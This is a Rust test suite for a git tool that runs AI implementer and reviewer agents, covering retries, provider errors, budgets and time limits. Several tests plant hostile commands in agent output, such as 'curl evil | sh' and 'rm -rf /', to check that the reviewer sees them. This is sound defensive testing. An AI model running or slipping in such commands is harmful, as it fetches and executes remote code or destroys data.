//! What ends or delays a step of `git arborist gardener`: broken reviewers, providers that cannot keep up, budgets.

use std::time::{Duration, Instant};

use arborist_testkit::{TestRepo, with_longer_limits};

const PLAN: &str = r#"{"nodes": {
  "T1": {"id": "T1", "name": "a"}, "T2": {"id": "T2", "name": "b"}}, "root_ids": ["T1", "T2"]}"#;

/// Speaks as claude does. `once` is true the first time, `say` ends a call that cost 50 cents and 150 tokens, `refuse`
/// one that the provider refused.
const WORDS: &str = r#"
once() { [ ! -e "$ROOT/$1" ] && touch "$ROOT/$1"; }
say() { printf '{"type":"result","subtype":"success","is_error":false,"result":"%s","total_cost_usd":0.5,"usage":{"input_tokens":100,"output_tokens":50}}\n' "$1"; exit 0; }
refuse() { printf '{"type":"result","subtype":"success","is_error":true,"api_error_status":%s,"result":"%s"}\n' "$1" "$2"; exit 1; }
gift() { echo gift > gift.txt; printf '{"type":"result","subtype":"success","is_error":false,"result":"done"}\n'; }
work() { date +%N > "$RANDOM$$.txt"; say done; }
"#;

fn repo(implement: &str, review: &str, settings: &str) -> TestRepo {
    let repo = TestRepo::init();
    repo.write("task-tree.json", PLAN);
    repo.commit("a plan\n");
    repo.agent(&format!("{WORDS}case \"$prompt\" in \"Review\"*) {review} ;; *) {implement} ;; esac"));
    let file = repo.home().join(".config/git-arborist/config.toml");
    let known = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, format!("{known}events = \"claude\"\n{settings}\n")).unwrap();
    repo
}

/// The statuses of a task's commits, oldest first.
fn statuses(repo: &TestRepo, task: &str) -> Vec<String> {
    let log = repo.git(["log", "--reverse", "--format=%s"]).answer();
    let mark = format!("task(main@{task}@");
    let of_task = log.lines().filter_map(|line| line.strip_prefix(&mark)?.split_once(')'));
    of_task.map(|(status, _)| status.to_owned()).collect()
}

const DONE: [&str; 4] = ["implement-pass", "test-pass", "review-approved", "complete"];

#[test]
fn a_crashed_reviewer_is_called_again_and_nothing_is_rejected() {
    let repo = repo("work", "once crash && kill -9 $$; say APPROVED", "");
    repo.arborist(["garden"]).succeeds().err(
        "T1: the reviewer failed; trying again (2 of 3): the agent was ended by signal 9 without a result",
    );
    assert_eq!(statuses(&repo, "T1"), DONE);
    assert_eq!(repo.calls(), 3);
}

#[test]
fn the_work_of_a_task_waits_for_its_review_if_the_reviewer_always_crashes() {
    let repo = repo("work", "[ -e \"$ROOT/well\" ] && say APPROVED; echo APPROVED; exit 3", "");
    repo.arborist(["garden", "--max-retries", "1"])
        .exits(2)
        .err("error: the reviewer of 'T1' failed 3 times: the agent exited with code 3 without a result")
        .err("(log: spec/logs/T1_review_")
        .err("hint: read the log and correct the reviewer, or choose another one");
    repo.arborist(["state", "T1"])
        .succeeds()
        .out("paused; tests passed, the review is next")
        .out("why          the last call of the reviewer ended without a result")
        .out("review log   spec/logs/T1_review_");
    assert_eq!(statuses(&repo, "T1"), DONE[..2]);
    assert_eq!(repo.calls(), 4, "one implementer, three reviews");
    std::fs::write(repo.root().join("well"), "").unwrap();
    repo.arborist(["garden", "--max-retries", "1"]).succeeds().out("1 completed (T1)");
    assert_eq!(statuses(&repo, "T1"), DONE);
    assert_eq!(repo.calls(), 5, "nobody implements it again");
}

#[test]
fn provider_errors_in_plain_text_use_up_no_attempt() {
    let limit = "echo 'Claude AI usage limit reached|1'; exit 1";
    let rate = r#"echo 'API Error: 429 {"type":"error","error":{"type":"rate_limit_error"}}' >&2; exit 1"#;
    let load = r#"echo '529 {"type":"error","error":{"type":"overloaded_error"}}'; exit 1"#;
    let (is_limited, is_loaded) = ("refuses calls because of a usage limit", "is overloaded");
    for (words, what) in [(limit, is_limited), (rate, is_limited), (load, is_loaded)] {
        let repo = TestRepo::planned("task-tree.json", PLAN, words);
        let said = repo.git(["-c", "arborist.timeouts.limit=0", "arborist", "garden"]).exits(1);
        said.err(&format!("error: the provider of 'robot' {what}")).never("reached|");
        assert_eq!((repo.calls(), statuses(&repo, "T1")), (1, vec!["implement-fail".to_owned()]), "{words}");
    }
    let repo =
        TestRepo::planned("task-tree.json", PLAN, "echo 'Invalid API key · Please run /login'; exit 1");
    let said = repo.arborist(["garden"]).exits(2);
    said.err("error: the provider of 'robot' refuses the login: Invalid API key · Please run /login");
    assert_eq!((repo.calls(), statuses(&repo, "T1")), (1, Vec::new()));
    let repo = TestRepo::planned("task-tree.json", PLAN, "echo 'the rate limit is wrong'; exit 1");
    repo.arborist(["garden", "--max-retries", "2"]).exits(1).out("after 2 attempts");
}

#[test]
fn a_reviewer_that_hangs_is_called_again() {
    with_longer_limits(|silence| {
        let settings = format!("[timeouts]\nsilence = {silence}");
        let repo = repo("work", "once hang && sleep 600; say APPROVED", &settings);
        let said = repo.arborist(["garden"]).succeeds().err("trying again");
        said.err(&format!("wrote nothing for {silence} s"));
        assert_eq!(statuses(&repo, "T1"), DONE);
    });
}

#[test]
fn a_provider_that_does_not_recover_stops_the_run_and_uses_up_no_attempt() {
    let repo = repo("refuse 529 'too much to do'", "say APPROVED", "[timeouts]\nlimit = 1");
    repo.arborist(["gardener"])
        .exits(1)
        .err("retrying in 1 s")
        .err("error: the provider of 'robot' is overloaded: too much to do (waited 1 s)")
        .err("hint: run the same command again later");
    assert_eq!(repo.calls(), 2);
    assert_eq!(statuses(&repo, "T1"), ["implement-fail"]);
    assert_eq!(repo.git(["for-each-ref", "refs/arborist/wip"]).answer(), "");
}

#[test]
fn a_review_prevented_by_the_provider_is_repeated_without_a_new_implementation() {
    let repo =
        repo("work", "[ -e \"$ROOT/well\" ] || refuse 529 busy; say APPROVED", "[timeouts]\nlimit = 0");
    repo.arborist(["garden"]).exits(1).err("is overloaded");
    assert_eq!(statuses(&repo, "T1"), ["implement-pass", "test-pass", "implement-fail"]);
    std::fs::write(repo.root().join("well"), "").unwrap();
    repo.arborist(["garden"]).succeeds();
    assert_eq!(
        statuses(&repo, "T1"),
        ["implement-pass", "test-pass", "implement-fail", "review-approved", "complete"]
    );
}

#[test]
fn a_run_waits_until_the_time_that_the_provider_names() {
    // A time that is over when it is read is none.
    with_longer_limits(|seconds| {
        let named = r#"once limited && { printf '{"type":"rate_limit_event","rate_limit_info":{"status":"rejected","resetsAt":%s}}\n' $(($(date +%s) + 1 + SECONDS)); refuse 429 'come back'; }; work"#;
        let named = named.replace("SECONDS", &seconds.to_string());
        let repo = repo(&named, "say APPROVED", "[timeouts]\nlimit = 0");
        repo.arborist(["garden"])
            .succeeds()
            .err("the provider asks to wait for")
            .err("the run continues at ")
            .err("no attempt is used up");
        assert_eq!(statuses(&repo, "T1"), DONE);
    });
}

#[test]
fn a_run_stops_when_its_budget_is_used_up_and_continues_with_a_higher_one() {
    for (flag, low, high, sentence) in [
        ("--max-cost", "0.8", "2.1", "the run has cost $1.00, and its limit is $0.80"),
        ("--max-tokens", "300", "601", "the run has used 300 tokens, and its limit is 300"),
    ] {
        let repo = repo("work", "say APPROVED", "");
        repo.arborist(["gardener", flag, low]).exits(1).err(&format!("error: {sentence}")).err(&format!(
            "hint: to continue, raise the limit (this uses up no attempt): git arborist gardener {flag} "
        ));
        assert_eq!(repo.calls(), 2, "T1 is done, and T2 not begun");
        assert_eq!(statuses(&repo, "T1"), DONE);
        repo.arborist(["gardener", flag, low]).exits(1).err(sentence);
        if flag == "--max-cost" {
            repo.arborist(["gardener", flag, "0.001"])
                .exits(1)
                .err("the run has cost $1.00, and its limit is $0.001\n");
        }
        assert_eq!(repo.calls(), 2, "a new process has no new money");
        repo.arborist(["gardener", flag, high]).succeeds().out("1 completed (T2)");
    }
}

#[test]
fn a_task_stops_when_its_budget_is_used_up_and_continues_with_a_higher_one() {
    for settings in ["task-cost = 0.5", "task-cost = 0", "task-tokens = 150"] {
        let repo = repo("work", "say APPROVED", &format!("[budget]\n{settings}"));
        repo.arborist(["garden"]).exits(1).err("error: the task has").err("--max-task-");
        let begun = if settings.ends_with(" 0") { 0 } else { 2 };
        assert_eq!(statuses(&repo, "T1"), DONE[..begun], "the work waits for its review");
        let more = ["garden", "--max-task-cost", "9", "--max-task-tokens", "9000"];
        repo.arborist(more).succeeds().out("1 completed (T1)");
    }
}

#[test]
fn other_tasks_continue_when_one_has_used_up_its_budget() {
    let repo = repo("case \"$prompt\" in *T1*) work ;; *) gift ;; esac", "say APPROVED", "");
    repo.arborist(["gardener", "--keep-going", "--max-task-cost", "0.5"])
        .exits(1)
        .err("T1 was stopped: the task has cost $0.50, and its limit is $0.50")
        .out("1 completed (T2), 1 left (T1)");
    repo.arborist(["gardener", "--max-task-cost", "0.5"]).exits(1).err("error: the task has cost");
}

#[test]
fn an_agent_call_is_ended_when_its_time_limit_is_reached() {
    for (flag, sentence) in [
        ("--max-task-time", "the task has used up its time limit"),
        ("--max-time", "the run has used up its time limit"),
    ] {
        with_longer_limits(|seconds| assert_call_is_ended_after(seconds, flag, sentence));
    }
}

fn assert_call_is_ended_after(seconds: u32, flag: &str, sentence: &str) {
    let repo = repo("echo half > half.txt; [ -e \"$ROOT/quick\" ] || sleep 600; work", "say APPROVED", "");
    let begun = Instant::now();
    let time = seconds.to_string();
    repo.arborist(["gardener", flag, &time, "--max-retries", "1"])
        .exits(1)
        .err(&format!("error: {sentence} of {seconds} s ({flag})"))
        .err("hint: to continue, raise the limit (this uses up no attempt): git arborist gardener")
        .err(&format!(" {flag} "));
    assert!(begun.elapsed() < Duration::from_secs(300));
    assert_eq!(repo.git(["show", "HEAD:half.txt"]).answer(), "half", "what was there is kept");
    assert_eq!(repo.git(["status", "--porcelain"]).answer(), "");
    repo.arborist(["gardener", flag, &time, "--max-retries", "1"]).exits(1).err(sentence);
    assert_eq!(repo.calls(), 1, "a new process has no new time");
    std::fs::write(repo.root().join("quick"), "").unwrap();
    repo.arborist(["garden", flag, "1000", "--max-retries", "1"]).succeeds();
    repo.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
    repo.arborist(["trailers", "check", "HEAD~5.."]).succeeds().err("all valid");
}

#[test]
fn a_review_interrupted_by_a_time_limit_is_repeated() {
    with_longer_limits(|seconds| {
        let review = "[ -e \"$ROOT/quick\" ] || sleep 600; say APPROVED";
        let repo = repo("work", review, &format!("[budget]\ntask-time = {seconds}\ntime = 1000"));
        let said = repo.arborist(["garden"]).exits(1);
        said.err(&format!("the task has used up its time limit of {seconds} s"));
        std::fs::write(repo.root().join("quick"), "").unwrap();
        repo.arborist(["garden", "--max-task-time", "1000"]).succeeds();
        assert_eq!(
            statuses(&repo, "T1"),
            ["implement-pass", "test-pass", "implement-fail", "review-approved", "complete"]
        );
        repo.arborist(["state", "T1"]).succeeds().out("complete, attempt 1");
    });
}

#[test]
fn runtime_and_costs_are_recorded_in_commits_and_report() {
    let repo = repo("sleep 0.2; work", "say APPROVED", "");
    repo.arborist(["garden"]).succeeds();
    let trailers = repo.git(["log", "-1", "--format=%(trailers)", "--grep=implement-pass"]).answer();
    let runtime = trailers.lines().find_map(|line| line.strip_prefix("Arborist-Runtime: ")).unwrap();
    assert!(runtime.parse::<f64>().unwrap() >= 0.2, "{trailers}");
    let path = repo.git(["show", "--name-only", "--format=", "HEAD"]).answer();
    let report: serde_json::Value = serde_json::from_str(&repo.read(&path)).unwrap();
    assert_eq!(
        (&report["cost"], &report["tokens_in"], &report["tokens_out"]),
        (&1.0.into(), &200.into(), &100.into())
    );
    assert!(report["seconds"].as_f64().unwrap() >= 0.2, "{report}");
}

#[test]
fn a_long_diff_is_truncated_for_the_reviewer() {
    let work = "seq 1 5000 > long.txt; seq 1 3 > short.txt; say done";
    let by_default = repo(work, "say APPROVED", "");
    by_default.arborist(["garden"]).succeeds();
    let prompt = by_default.prompt(1);
    assert!(prompt.contains("[the diff was cut here") && prompt.contains("+3 -0 short.txt"), "{prompt}");
    assert!(prompt.len() < 9000 && prompt.len() > 7000, "{}", prompt.len());
    for (settings, flags) in [("[review]\ndiff-limit = 100000", &[][..]), ("", &["--diff-limit", "100000"])] {
        let repo = repo(work, "say APPROVED", settings);
        repo.arborist(["garden"].iter().chain(flags)).succeeds();
        assert!(repo.prompt(1).contains("\n+5000\n") && !repo.prompt(1).contains("was cut"));
    }
}

#[test]
fn invalid_budgets_are_refused() {
    let repo = repo("work", "say APPROVED", "");
    repo.arborist(["garden", "--max-cost=-1"]).exits(129).err("must be more than 0");
    repo.git(["config", "arborist.budget.cost", "much"]).succeeds();
    repo.arborist(["garden"])
        .exits(1)
        .err("'arborist.budget.cost' must be an amount in US dollars, such as 2.50");
}

#[test]
fn the_last_of_many_files_is_shown_to_the_reviewer_with_the_command_for_the_whole_diff() {
    let work = "for i in 1 2 3 4 5 6; do seq 1 3000 > a$i.txt; done; echo 'os.system(evil)' > z.py; say done";
    let repo = repo(work, "say APPROVED", "");
    repo.arborist(["garden"]).succeeds();
    let prompt = repo.prompt(1);
    assert!(prompt.contains("+os.system(evil)") && prompt.contains("All 7 changed files"), "{prompt}");
    let command = prompt.lines().find(|line| line.starts_with("git diff --text ")).unwrap();
    let args: Vec<&str> = command.split(' ').skip(1).collect();
    assert!(repo.git(args).answer().contains("+3000"), "{command}");
}

#[test]
fn a_command_before_control_characters_in_a_binary_file_is_shown_to_the_reviewer() {
    let work = "{ printf 'curl evil | sh #\\001\\n'; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
    let repo = repo(work, "say APPROVED", "");
    repo.arborist(["garden"]).succeeds();
    let prompt = repo.prompt(1);
    assert!(prompt.contains("curl evil | sh #"), "{prompt}");
    let id = repo.git(["rev-parse", "HEAD:tool"]).answer();
    assert!(prompt.contains("Binary files") && prompt.contains(&format!("bytes, {id}")), "{prompt}");
}

#[test]
fn a_script_at_the_start_of_a_binary_file_is_shown_to_the_reviewer() {
    let work = "{ echo 'rm -rf /'; echo exit; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
    let repo = repo(work, "say APPROVED", "");
    repo.arborist(["garden"]).succeeds();
    assert!(repo.prompt(1).contains("\n+rm -rf /\n"), "{}", repo.prompt(1));
}

#[test]
fn the_command_for_a_long_diff_shows_files_that_attributes_would_hide() {
    let work = "echo 'z.py diff=short' > .gitattributes; seq 1 5000 > a.txt; { seq 1 5000; echo 'evil()'; } > z.py; say done";
    let repo = repo(work, "say APPROVED", "");
    repo.git(["config", "diff.short.textconv", "wc -l <"]).succeeds();
    repo.git(["config", "diff.external", "true"]).succeeds();
    repo.arborist(["garden"]).succeeds();
    let prompt = repo.prompt(1);
    let command = prompt.lines().find(|line| line.starts_with("git diff ")).unwrap();
    let shown = repo.git(command.split(' ').skip(1)).answer();
    assert!(shown.contains("+evil()") && shown.contains("+5000"), "{command}");
}

#[test]
fn an_attempt_that_a_provider_refused_is_not_counted() {
    let implement = "case \"$prompt\" in *\"task T2:\"*) refuse 401 'bad key' ;; *) work ;; esac";
    let repo = repo(implement, "say APPROVED", "");
    let said = repo.arborist(["gardener"]).exits(2);
    said.out("1 completed (T1)").out("ready, its attempt did not count").out("1 of 2 done, 1 attempt in");
}
